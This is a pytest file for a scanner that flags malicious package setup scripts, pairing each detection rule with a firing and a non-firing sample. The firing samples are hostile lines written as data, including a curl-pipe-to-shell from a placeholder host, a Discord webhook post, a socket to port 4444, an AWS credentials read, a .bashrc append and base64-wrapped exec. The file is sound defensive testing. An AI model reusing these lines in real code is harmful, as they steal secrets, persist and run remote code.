"""String indicators: each rule with a positive and a negative synthetic example."""

from __future__ import annotations

import base64

import pytest

from mphunter_gate.analysis import analyse
from mphunter_gate.analysis.indicators import find, names
from mphunter_gate.types import Script, ScriptKind

# (rule, text that must fire it, benign-looking text that must not)
CASES = [
    (
        "shell_interpreter",
        "subprocess.Popen('powershell -nop -c whoami')",
        "subprocess.check_output(['git', 'describe', '--tags'])",
    ),
    (
        "encoded_command",
        "cmd = 'pwsh -enc " + "QUFB" * 12 + "'",
        "args = ['-e', 'python/packaging/client']",
    ),
    (
        "hidden_execution",
        "subprocess.Popen(c, creationflags=subprocess.CREATE_NO_WINDOW)",
        "subprocess.run(['make'], check=True)",
    ),
    (
        "download_execute",
        "os.system('curl -s http://example.invalid/x | sh')",
        "os.system('curl --version')",
    ),
    (
        "executable_payload",
        "urlretrieve('https://example.invalid/tool.exe', p)",
        "url = 'https://example.invalid/docs/index.html'",
    ),
    (
        "exfil_service",
        "requests.post('https://discord.com/api/webhooks/1/abc', data=d)",
        "url='https://github.com/org/project'",
    ),
    ("raw_ip_endpoint", "s.connect(('198.51.100.4', 4444))", "version = '1.2.3.4'"),
    (
        "credential_store",
        "p = os.path.join(home, '.aws/credentials')",
        "p = os.path.join(here, 'README.md')",
    ),
    ("persistence_location", "open(os.path.expanduser('~/.bashrc'), 'a')", "open('setup.cfg')"),
    ("user_profile_write", "d = os.getenv('APPDATA')", "d = os.getenv('HOME_TOOLS_DIR')"),
    (
        "long_encoded_blob",
        "blob = '" + "QUJD" * 120 + "'",
        "long_description = 'A small library. ' * 3",
    ),
]


def test_every_rule_has_a_case() -> None:
    assert {c[0] for c in CASES} == set(names())


@pytest.mark.parametrize(("rule", "bad", "good"), CASES, ids=[c[0] for c in CASES])
def test_rule_fires_only_on_the_behaviour(rule: str, bad: str, good: str) -> None:
    fired = {i.name for i in find(bad, "setup.py")}
    assert rule in fired
    assert rule not in {i.name for i in find(good, "setup.py")}


def test_indicator_points_at_the_line() -> None:
    text = "import os\n\nos.system('powershell -w hidden -c x')\n"
    hits = find(text, "pkg/setup.py")
    assert ("shell_interpreter", "pkg/setup.py", 3) in {(i.name, i.file, i.line) for i in hits}


def test_decoded_payload_is_scanned() -> None:
    hidden = base64.b64encode(b"import os; os.system('powershell -c whoami')").decode()
    src = f"import base64\nexec(base64.b64decode('{hidden}'))\n"
    a = analyse(Script("setup.py", ScriptKind.SETUP, src))
    assert "shell_interpreter" in {i.name for i in a.indicators}


def test_hits_per_rule_are_bounded() -> None:
    text = "\n".join("x = 'powershell'" for _ in range(1000))
    assert len([i for i in find(text, "s.py") if i.name == "shell_interpreter"]) == 3


@pytest.mark.parametrize(("rule", "bad", "good"), CASES, ids=[c[0] for c in CASES])
def test_rules_ignore_case_and_quote_the_original_text(rule: str, bad: str, good: str) -> None:
    shouted = bad.upper()
    hits = [i for i in find(shouted, "setup.py") if i.name == rule]
    assert hits, shouted
    assert all(i.excerpt in shouted for i in hits)


def test_ascii_lower_keeps_every_offset() -> None:
    from mphunter_gate.analysis.indicators import ascii_lower

    text = "PowerShell \u212a \u0130 \udcff \u00c9X"  # Kelvin sign, dotted I, lone surrogate
    low = ascii_lower(text)
    assert low == "powershell \u212a \u0130 \udcff \u00c9x"
    assert len(low) == len(text)
    assert ascii_lower("ABC") == "abc"


def test_guard_never_hides_a_match() -> None:
    from mphunter_gate.analysis.indicators import ascii_lower, rules

    texts = [
        "s.connect(('198.51.100.4', 4444))",
        's.connect( ( "10.0.0.1" , 80 ) )',
        "urlopen('http://192.0.2.10:8080/x')",
        "u = 'https://203.0.113.255/a'; v = 'tcp://1.2.3.4'; w = 'udp://9.9.9.9'",
        "version = '1.2.3.4'",
        "x = ('1.2.3', 80)",
    ]
    guarded = [r for r in rules() if r.guard is not None]
    assert guarded
    for rule in guarded:
        for text in texts:
            low = ascii_lower(text)
            if rule.pattern.search(low):
                assert rule.may_match(low), (rule.name, text)
    ip = next(r for r in rules() if r.name == "raw_ip_endpoint")
    assert not ip.may_match("setup(name='x', version='1.2.3')")
